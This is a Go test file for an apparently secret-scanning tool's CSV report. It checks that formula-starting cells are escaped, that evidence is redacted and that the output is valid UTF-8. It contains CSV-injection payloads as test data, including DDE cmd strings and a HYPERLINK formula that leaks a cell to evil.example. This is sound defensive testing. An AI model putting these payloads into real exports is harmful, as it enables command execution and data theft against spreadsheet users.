package report

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/snapwatch/snapwatch/internal/finding"
)

func readCSV(t testing.TB, out []byte) [][]string {
	t.Helper()
	rows, err := csv.NewReader(bytes.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatalf("invalid CSV: %v", err)
	}
	return rows
}

// assertNoFormula fails on any cell a spreadsheet would evaluate.
func assertNoFormula(t testing.TB, rows [][]string) {
	t.Helper()
	for i, row := range rows {
		for j, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r\n", rune(cell[0])) {
				t.Errorf("row %d, column %s: %q starts a formula", i, csvHeader[j], cell)
			}
		}
	}
}

func TestCSV(t *testing.T) {
	rows := readCSV(t, render(t, FormatCSV, fixtureResult(), Options{}))
	if len(rows) != 1+len(fixtureFindings()) {
		t.Fatalf("%d rows", len(rows))
	}
	if strings.Join(rows[0], ",") != "id,severity,kind,rule,title,provider,account,region,resource_type,resource_id,volume,path,line,deleted,evidence,first_seen,last_seen,status" {
		t.Fatalf("header %v", rows[0])
	}
	assertNoFormula(t, rows)
	var hostile []string
	for _, r := range rows {
		if r[3] == "secret/generic-password" {
			hostile = r
		}
	}
	if hostile[4] != "'"+csvFormula {
		t.Errorf("title %q", hostile[4])
	}
	if hostile[11] != "/srv/日本語/секрет/😀/"+scriptBreak || hostile[12] != "42" {
		t.Errorf("path %q line %q", hostile[11], hostile[12])
	}
	if !strings.Contains(hostile[14], "match=pass…") || strings.Contains(hostile[14], leakedPassword) {
		t.Errorf("evidence %q", hostile[14])
	}
}

// Every cell that could start a formula, in every column an attacker can reach.
func TestCSVInjection(t *testing.T) {
	payloads := []string{
		csvFormula, "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
		"\t=1+1", "\r=1+1", "\n=1+1", `=HYPERLINK("http://evil.example/?"&A1,"click")`, "=1,2\"3",
	}
	var fs []finding.Finding
	for _, p := range payloads {
		fs = append(fs, finding.Finding{
			ID: p, Kind: finding.Kind(p), Rule: p, Title: p, Severity: finding.High, Status: finding.Status(p),
			Resource: finding.Resource{Provider: p, Account: p, Region: p, Type: p, ID: p},
			Location: &finding.Location{Volume: p, Path: p},
			Evidence: finding.Evidence{"=x": p},
		})
	}
	out := render(t, FormatCSV, &Result{Findings: fs}, Options{})
	rows := readCSV(t, out)
	if len(rows) != len(fs)+1 {
		t.Fatalf("%d rows for %d findings: a payload broke out of its cell", len(rows), len(fs))
	}
	assertNoFormula(t, rows)
	for _, row := range rows[1:] {
		if len(row) != len(csvHeader) {
			t.Fatalf("%d fields", len(row))
		}
		// The quote is the only change: the payload is still there for an analyst to read.
		if !strings.HasPrefix(row[4], "'") || !strings.Contains(strings.Join(payloads, "\x00"), row[4][1:]) {
			t.Errorf("title cell %q", row[4])
		}
	}
}

func TestCSVInvalidUTF8(t *testing.T) {
	out := render(t, FormatCSV, &Result{Findings: []finding.Finding{{Title: "a\xffb", Severity: finding.Low}}}, Options{})
	if !utf8.Valid(out) {
		t.Fatal("CSV is not UTF-8")
	}
}
